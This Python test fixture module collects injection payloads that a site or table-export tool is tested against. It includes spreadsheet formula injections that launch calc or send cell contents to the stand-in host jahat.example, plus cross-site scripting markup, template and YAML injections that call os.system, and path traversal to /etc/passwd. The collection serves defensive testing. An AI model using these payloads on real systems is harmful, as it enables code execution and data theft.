"""Texts that attack: from the registries' packages, and those that only tables meet."""

from __future__ import annotations

import json
import os
import re
from functools import cache

from nodes import MODULES

from build_tools.privacy import headings

#: Whether every payload is tried in every place.
FULL = os.environ.get("TERBUKA_TESTS") == "full"
#: What a payload does when it runs; the pages of the tests must never have it.
OWNED = "window.__owned=1"
_CALL = re.compile(r"(?:alert|prompt|confirm|eval)\s*(?:\([^()]*\)|`[^`]*`)", re.I)

#: A spreadsheet that takes a text for a formula runs it or sends cells to a stranger.
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://jahat.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://jahat.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "%0A=1+1",
    ';=1+1;"=1+1"',
)
#: Markup and code that run in a page that believes them.
MARKUP = (
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"<!--<script>{OWNED}//-->",
    "<!-- <script> <!--",
    f"]]><script>{OWNED}</script>",
    f"--><script>{OWNED}</script>",
    f"</title><script>{OWNED}</script>",
    f"</textarea></style></template><script>{OWNED}</script>",
    f'"><img src=x onerror="{OWNED}">',
    f"'><svg onload={OWNED}>",
    f'" autofocus onfocus="{OWNED}" x="',
    f"<svg><script>{OWNED}</script></svg>",
    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={OWNED}>",
    f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
    f"<details open ontoggle={OWNED}>",
    f"<iframe srcdoc='<script>parent.{OWNED}</script>'></iframe>",
    f"<body onload={OWNED}><main id=isi></main></body></html>",
    f"<base href='https://jahat.example/'><script src=a.js>{OWNED}</script>",
    "<meta http-equiv=refresh content='0;url=https://jahat.example/'>",
    "<link rel=stylesheet href=https://jahat.example/a.css>",
    "<img src=https://jahat.example/p.png>",
    "<form action=https://jahat.example/><button>kirim</button></form>",
    "<object data=https://jahat.example/></object><embed src=//jahat.example/>",
    f"javascript:{OWNED}",
    f"JaVaScRiPt:{OWNED}//https://",
    f"java\tscript:{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    f'https://contoh.example/"onmouseover="{OWNED}',
    f"https://contoh.example/'onmouseover='{OWNED}",
    "//jahat.example/",
    "&lt;script&gt;&#60;script&#62;&#x3c;script&#x3e;",
    f"\u2028{OWNED}\u2029",
    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
    f"${{{OWNED}}}`${{{OWNED}}}`",
)
#: What template engines, Markdown, YAML and those who write them take for their own.
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% include 'main.html' %}{% raw %}",
    "{% for x in range(999999999) %}x{% endfor %}",
    "{# x #}{%- set page = 1 -%}",
    "[[ 7*7 ]][% for x in y %]",
    "--8<-- '/etc/passwd'",
    "{! /etc/passwd !}",
    "::: os.system",
    "!!python/object/apply:os.system ['id']",
    "*a &a <<: *a",
    "---\ntemplate: main.html\n---\n",
    "...\n---\n",
    "[x](javascript:" + OWNED + ")",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://jahat.example/p.png)",
    "[x]: javascript:" + OWNED + "\n\n[x]",
    "<https://jahat.example/><javascript:" + OWNED + ">",
    "```html\n<script>" + OWNED + "</script>",
    '<p markdown="1" onclick="' + OWNED + '">x</p>',
    "x{: onclick=" + OWNED + " style=position:fixed }",
    "`" * 50 + "[" * 50 + "*" * 50 + "_" * 50,
    "%(x)s {0} {x.__class__} %n$s",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "\\\\jahat.example\\share",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
)


@cache
def packaged() -> tuple[str, ...]:
    """The payloads of the packages; what they would call sets `OWNED` instead."""
    naughty = MODULES / "big-list-of-naughty-strings/blns.json"
    found: list[str] = json.loads(naughty.read_text(encoding="utf-8"))
    payload = (MODULES / "xss-payloads/payload.js").read_text(encoding="utf-8").strip()
    found += [payload, f"<script>{payload}</script>", f"<img src=x onerror={payload}>"]
    named = re.compile(r"\bDr\. ")  # a title would hold the dataset back as a person's
    called = [_CALL.sub(lambda _: OWNED, named.sub("", text)) for text in found if text]
    # columns called after persons hold it back as well: names of some stand in the list
    return tuple(text for text in called if not headings.is_name(text))


@cache
def everything() -> tuple[str, ...]:
    """All payloads, each once."""
    return tuple(dict.fromkeys((*MARKUP, *FORMULAS, *TEMPLATES, *packaged())))


def harmless(payload: str) -> str:
    """A text of the same kind and length with nothing in it: a link, or letters.

    White space and figures stay, what a workbook cannot hold, and a first sign that makes a
    formula of it: the page says the same of the table.
    """
    if payload.startswith(("https://", "http://")):
        return "https://contoh.example/a"
    first = payload[0] if payload[0] in "=+-@\uff1d\uff0b\uff0d\uff20" else ""
    kept = r"[^\s\x00-\x1f\ufffe\uffff0-9.,()/-]"
    rest = payload[len(first) :]
    return first + re.sub(kept, lambda sign: chr(ord("a") + ord(sign[0]) % 26), rest)
